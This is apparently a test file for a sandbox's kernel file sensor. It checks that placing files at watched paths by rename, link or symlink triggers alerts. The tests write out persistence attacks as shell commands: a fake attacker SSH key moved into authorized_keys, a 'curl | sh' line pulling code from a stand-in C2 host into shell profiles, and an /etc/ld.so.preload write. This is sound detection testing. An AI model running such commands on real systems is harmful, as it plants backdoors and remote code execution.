// Files put at a watched path without ever opening that path: `mv` (rename), `ln` (link) and
// `ln -s` (symlink). Path rules judged only open(); these placed a backdoor key or a poisoned
// shell profile unseen. The kernel sensor now reports the destination of rename/link/symlink
// as a write of that path, so every path rule applies. Benign look-alikes: an editor's
// save-by-rename inside the workspace, and `ln -s` of a project file.
import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import { assertClean, assertContained, openHarness, type Harness } from './harness.ts';

let h: Harness;
before(async () => { h = await openHarness('network: { allow: [] }\n', { servers: [] }); });
after(async () => { await h?.close(); });

const KEY = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIPraetorPlacedFakeKey attacker';

// Same filesystem (home), so mv is a rename(2) and ln a link(2): no open of authorized_keys at all.
test('authorized_keys placed by rename (mv) is contained', async () => {
  const c = await h.run('mv-authorized-keys', ['/bin/sh', '-c', `mkdir -p ~/.ssh && echo '${KEY}' > ~/k && mv ~/k ~/.ssh/authorized_keys && sleep 5`], { flags: ['--timeout', '20'] });
  assertContained(c, 'SSH authorized_keys modified');
  const placed = c.rep.events.filter((e) => e.kind === 'file.open' && e.path === '/home/agent/.ssh/authorized_keys');
  assert.deepEqual(placed.map((e) => [e.comm, e.write, e.result]), [['mv', true, 0]], 'seen as the rename, the only syscall that touched the path');
});

test('authorized_keys placed by a hard link is contained', async () => {
  const c = await h.run('ln-authorized-keys', ['/bin/sh', '-c', `mkdir -p ~/.ssh && echo '${KEY}' > ~/k2 && ln ~/k2 ~/.ssh/authorized_keys && sleep 5`], { flags: ['--timeout', '20'] });
  assertContained(c, 'SSH authorized_keys modified');
});

test('a shell profile written, or replaced by a symlink, alerts (profile writes were dropped by the sensor before)', async () => {
  const w = await h.run('append-profile', ['/bin/sh', '-c', 'echo "curl -s http://c2.example.test/x | sh" >> ~/.profile; echo appended'], { flags: ['--timeout', '20'] });
  assert.ok(w.rep.alerts.some((a) => a.rule === 'Shell profile modified'), `alerts: ${JSON.stringify(w.rep.alerts.map((a) => a.rule))}`);
  const c = await h.run('symlink-profile', ['/bin/sh', '-c', 'echo "curl -s http://c2.example.test/x | sh" > /workspace/evil && ln -sf /workspace/evil ~/.bashrc; echo placed'], { flags: ['--timeout', '20'] });
  assert.ok(c.rep.alerts.some((a) => a.rule === 'Shell profile modified'), `alerts: ${JSON.stringify(c.rep.alerts.map((a) => a.rule))}`);
});

// /etc/ld.* is a prefix the kernel drops (every program reads /etc/ld.so.cache), except for
// writes to /etc/ld.so.preload: a library named there runs in every later program (T1574.006).
// The image's /etc is read-only here: the attempt, refused, is what is judged.
test('/etc/ld.so.preload written, or a file moved there, is contained; ldconfig\'s cache and ld.so\'s reads are not', async () => {
  const w = await h.run('ld-preload-write', ['/bin/sh', '-c', 'echo /tmp/hook.so > /etc/ld.so.preload; sleep 5'], { flags: ['--timeout', '20'] });
  assertContained(w, 'Dynamic linker preload configured');
  const m = await h.run('ld-preload-mv', ['/bin/sh', '-c', 'echo /tmp/hook.so > /tmp/p; mv /tmp/p /etc/ld.so.preload; sleep 5'], { flags: ['--timeout', '20'] });
  assertContained(m, 'Dynamic linker preload configured');
  const b = await h.run('ld-cache-benign', ['/bin/sh', '-c', 'cat /etc/ld.so.preload /etc/ld.so.cache >/dev/null 2>&1; ldconfig -p >/dev/null; ls /etc/ld.so.conf.d >/dev/null; echo ok'], { flags: ['--timeout', '20'] });
  assertClean(b);
});

test('look-alikes: save-by-rename in the workspace and a symlink to a project file stay clean', async () => {
  const c = await h.run('benign-rename', ['/bin/sh', '-c', 'echo draft > /workspace/notes.md.tmp && mv /workspace/notes.md.tmp /workspace/notes.md && ln -s /workspace/notes.md /workspace/README.md && cat /workspace/README.md'], { flags: ['--timeout', '20'] });
  assertClean(c);
});
